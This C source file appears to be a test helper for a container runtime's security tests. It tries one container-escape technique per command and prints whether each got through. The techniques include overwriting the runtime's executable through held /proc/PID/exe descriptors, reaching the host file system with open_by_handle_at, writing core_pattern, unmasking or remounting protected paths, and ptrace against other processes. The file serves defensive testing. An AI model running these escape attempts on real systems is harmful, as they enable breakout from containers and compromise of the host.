// SPDX-License-Identifier: Apache-2.0
/*
 * What a hostile program in a container tries, one attempt a command; statically linked, so that it
 * runs in an empty image. Every attempt prints one line: "NAME ok" when it got through, else "NAME
 * ERRNO-NAME". The tests decide which of these is an escape.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/keyctl.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define HANDLE_BYTES 8
#define HELD_MAX     64

static void say(const char *name, long result)
{
	printf("%s %s\n", name, result < 0 ? strerrorname_np(errno) : "ok");
	(void)fflush(stdout);
}

/* ---- the runtime's executable ---- */

static int write_to(const char *path)
{
	int fd = open(path, O_WRONLY);

	if (fd < 0)
		fd = open(path, O_RDWR | O_APPEND);
	if (fd < 0)
		return -1;
	if (write(fd, "#!/bin/false\n", 13) != 13) {
		(void)close(fd);
		return -1;
	}
	return fd;
}

/* Descriptors outlive the processes, as in the published exploit: while a program runs, it cannot
 * be written (ETXTBSY). */
struct held {
	int fds[HELD_MAX];
	size_t count;
	unsigned long seen, written;
};

static void hold(struct held *h, const char *pid)
{
	char path[64];
	int fd;

	(void)snprintf(path, sizeof(path), "/proc/%.20s/exe", pid);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return;
	h->seen++;
	if (h->count < HELD_MAX)
		h->fds[h->count++] = fd;
	else
		(void)close(fd);
}

static void try_held(struct held *h)
{
	char path[64];

	for (size_t i = 0; i < h->count; i++) {
		int fd;

		(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", h->fds[i]);
		fd = write_to(path);
		if (fd < 0)
			continue;
		h->written++;
		(void)close(fd);
	}
}

static bool same_file(const struct stat *a, const struct stat *b)
{
	return a->st_ino == b->st_ino && a->st_dev == b->st_dev;
}

/* Every process whose program is neither this one nor the image's shell. */
static void look_around(struct held *h, const struct stat *own, const struct stat *shell)
{
	DIR *proc = opendir("/proc");
	struct dirent *entry;
	struct stat other;
	char path[64];

	while (proc != NULL && (entry = readdir(proc)) != NULL) {
		if (entry->d_name[0] < '0' || entry->d_name[0] > '9')
			continue;
		(void)snprintf(path, sizeof(path), "/proc/%.20s/exe", entry->d_name);
		if (stat(path, &other) < 0 || same_file(&other, own) || same_file(&other, shell))
			continue;
		hold(h, entry->d_name);
	}
	if (proc != NULL)
		(void)closedir(proc);
}

/* write-exe SECONDS: "seen N written M". */
static int command_write_exe(char **args)
{
	time_t end = time(NULL) + atoi(args[0]);
	static struct held h;
	struct stat own, shell;

	if (stat("/proc/self/exe", &own) < 0 || stat("/bin/busybox", &shell) < 0)
		return 1;
	while (time(NULL) < end) {
		look_around(&h, &own, &shell);
		try_held(&h);
	}
	(void)sleep(1);
	try_held(&h);
	printf("seen %lu written %lu\n", h.seen, h.written);
	return 0;
}

/* ---- system calls ---- */

static void try_keyrings(void)
{
	say("keyctl", syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0));
	say("add_key", syscall(SYS_add_key, "user", "x", "x", 1, KEY_SPEC_PROCESS_KEYRING));
	say("request_key", syscall(SYS_request_key, "user", "x", NULL, 0));
}

static int command_syscalls(char **args)
{
	char buffer[256] = {0};

	say("io_uring_setup", syscall(SYS_io_uring_setup, 1, buffer));
	say("io_uring_enter", syscall(SYS_io_uring_enter, -1, 0, 0, 0, NULL, 0));
	try_keyrings();
	say("bpf", syscall(SYS_bpf, 5, buffer, sizeof(buffer)));
	say("perf_event_open", syscall(SYS_perf_event_open, buffer, 0, -1, -1, 0));
	say("userfaultfd", syscall(SYS_userfaultfd, 0));
	say("init_module", syscall(SYS_init_module, buffer, 1, ""));
	say("kexec_load", syscall(SYS_kexec_load, 0, 0, NULL, 0));
	say("unshare-user", syscall(SYS_unshare, CLONE_NEWUSER));
	say("mount", mount("none", "/tmp", "tmpfs", 0, NULL));
	say("setns", syscall(SYS_setns, -1, 0));
	say("swapon", syscall(SYS_swapon, "/none", 0));
	say("reboot", syscall(SYS_reboot, 0, 0, 0, NULL));
	say("settimeofday", syscall(SYS_settimeofday, buffer, NULL));
	say("open_by_handle_at", syscall(SYS_open_by_handle_at, -1, buffer, O_RDONLY));
	say("fsopen", syscall(SYS_fsopen, "tmpfs", 0));
	return 0;
}

/* Whether a key of this description is reachable from the session. */
static int command_key(char **args)
{
	say("key",
		syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", args[0], 0));
	return 0;
}

/* ---- other processes, sockets, devices ---- */

static int command_process(char **args)
{
	pid_t pid = atoi(args[0]);
	char text[8], path[64];
	struct iovec local = {text, sizeof(text)}, remote = {(void *)0x400000, sizeof(text)};

	say("signal", kill(pid, 0));
	say("ptrace", ptrace(PTRACE_SEIZE, pid, NULL, NULL));
	say("process_vm_readv", process_vm_readv(pid, &local, 1, &remote, 1, 0));
	(void)snprintf(path, sizeof(path), "/proc/%d/root/etc", pid);
	say("root", access(path, F_OK));
	return 0;
}

static int command_connect(char **args)
{
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	size_t n = strlen(args[0]);
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);

	memcpy(a.sun_path + 1, args[0], n);
	say("connect", connect(fd, (const struct sockaddr *)&a,
			       (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + n)));
	return 0;
}

static int command_device(char **args)
{
	dev_t device = makedev((unsigned int)atoi(args[1]), (unsigned int)atoi(args[2]));
	int made = mknod("/tmp/node", (args[0][0] == 'b' ? S_IFBLK : S_IFCHR) | 0600, device);

	say("mknod", made);
	say("open", made == 0 ? open("/tmp/node", O_RDONLY | O_NONBLOCK) : -1);
	(void)unlink("/tmp/node");
	return 0;
}

/* The root directory of the file system that a file lies on, by the handle that ext4 (inode 2) and
 * xfs or tmpfs (others) give it: what is above the container's root. */
static int command_handle(char **args)
{
	struct {
		struct file_handle head;
		unsigned char bytes[HANDLE_BYTES];
	} h = {.head = {.handle_bytes = HANDLE_BYTES, .handle_type = 1}, .bytes = {2}};
	int mount = open(args[0], O_RDONLY), fd = open_by_handle_at(mount, &h.head, O_RDONLY);

	say("handle", fd);
	if (fd >= 0)
		say("above", faccessat(fd, args[1], F_OK, 0));
	return 0;
}

/* ---- masks and read-only paths, from below ---- */

static void reveal(const char *name, const char *type, const char *file)
{
	char path[128];
	int r = mount(type, "/tmp", type, 0, NULL);

	say(name, r);
	if (r < 0)
		return;
	(void)snprintf(path, sizeof(path), "/tmp/%s", file);
	printf("%s-shows %s\n", name, access(path, F_OK) == 0 ? "ok" : "nothing");
	(void)umount2("/tmp", MNT_DETACH);
}

static void attack(const char *path)
{
	struct mount_attr writable = {.attr_clr = MOUNT_ATTR_RDONLY};
	int tree = (int)syscall(SYS_open_tree, AT_FDCWD, path, OPEN_TREE_CLONE);
	char name[256];

	(void)snprintf(name, sizeof(name), "umount:%s", path);
	say(name, umount2(path, MNT_DETACH));
	(void)snprintf(name, sizeof(name), "remount:%s", path);
	say(name, mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL));
	(void)snprintf(name, sizeof(name), "setattr:%s", path);
	say(name, syscall(SYS_mount_setattr, AT_FDCWD, path, 0, &writable, sizeof(writable)));
	(void)snprintf(name, sizeof(name), "move:%s", path);
	say(name, mount(path, "/tmp", NULL, MS_MOVE, NULL));
	(void)snprintf(name, sizeof(name), "clone:%s", path);
	say(name, tree);
	(void)snprintf(name, sizeof(name), "clone-setattr:%s", path);
	say(name, syscall(SYS_mount_setattr, tree, "", AT_EMPTY_PATH, &writable, sizeof(writable)));
	if (tree >= 0)
		(void)close(tree);
}

/* A bind without the mounts below it would show what they cover. */
static void uncover(void)
{
	say("bind:/proc", mount("/proc", "/tmp", NULL, MS_BIND, NULL));
	say("bind:/sys", mount("/sys", "/tmp", NULL, MS_BIND, NULL));
	say("bind:/", mount("/", "/tmp", NULL, MS_BIND, NULL));
	(void)umount2("/tmp", MNT_DETACH);
}

static int write_text(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY), r;

	if (fd < 0)
		return -1;
	r = write(fd, text, strlen(text)) < 0 ? -1 : 0;
	(void)close(fd);
	return r;
}

static void attack_all(char **args)
{
	for (; *args != NULL; args++)
		attack(*args);
	uncover();
	reveal("proc", "proc", "sysrq-trigger");
	reveal("sysfs", "sysfs", "firmware");
	reveal("mqueue", "mqueue", ".");
	say("core_pattern", write_text("/proc/sys/kernel/core_pattern", "core"));
}

/* mounts PATH...: with the capabilities the program has. */
static int command_mounts(char **args)
{
	attack_all(args);
	return 0;
}

static int become_nested(unsigned int uid, unsigned int gid)
{
	char map[64];

	if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID | CLONE_NEWNET) < 0)
		return -1;
	(void)write_text("/proc/self/setgroups", "deny");
	(void)snprintf(map, sizeof(map), "0 %u 1", uid);
	if (write_text("/proc/self/uid_map", map) < 0)
		return -1;
	(void)snprintf(map, sizeof(map), "0 %u 1", gid);
	return write_text("/proc/self/gid_map", map);
}

/* nested PATH...: with all capabilities in a user namespace below, process 1 of a pid namespace. */
static int command_nested(char **args)
{
	int r = become_nested(geteuid(), getegid());
	pid_t pid;

	say("nested", r);
	if (r < 0)
		return 0;
	pid = fork();
	if (pid == 0) {
		attack_all(args);
		_exit(0);
	}
	(void)waitpid(pid, NULL, 0);
	return 0;
}

/* ---- identity ---- */

static int command_ids(char **args)
{
	printf("uid %u euid %u egid %u\n", getuid(), geteuid(), getegid());
	return 0;
}

static int command_setgroups(char **args)
{
	gid_t none = 0;

	say("setgroups", syscall(SYS_setgroups, 0, &none));
	say("allow", write_text("/proc/self/setgroups", "allow"));
	say("uid_map", write_text("/proc/self/uid_map", "0 0 1"));
	return 0;
}

/* Every file named is opened for writing. */
static int command_writable(char **args)
{
	for (; *args != NULL; args++) {
		int fd = open(*args, O_WRONLY);

		say(*args, fd);
		if (fd >= 0)
			(void)close(fd);
	}
	return 0;
}

static const struct {
	const char *name;
	int (*run)(char **args);
	int args;
} payloads[] = {
	{"write-exe", command_write_exe, 1},
	{"syscalls", command_syscalls, 0},
	{"key", command_key, 1},
	{"process", command_process, 1},
	{"connect", command_connect, 1},
	{"device", command_device, 3},
	{"handle", command_handle, 2},
	{"mounts", command_mounts, 0},
	{"nested", command_nested, 0},
	{"ids", command_ids, 0},
	{"setgroups", command_setgroups, 0},
	{"writable", command_writable, 0},
};

int main(int argc, char **argv)
{
	for (size_t i = 0; argc > 1 && i < sizeof(payloads) / sizeof(payloads[0]); i++)
		if (strcmp(argv[1], payloads[i].name) == 0 && argc - 2 >= payloads[i].args)
			return payloads[i].run(argv + 2);
	return 2;
}
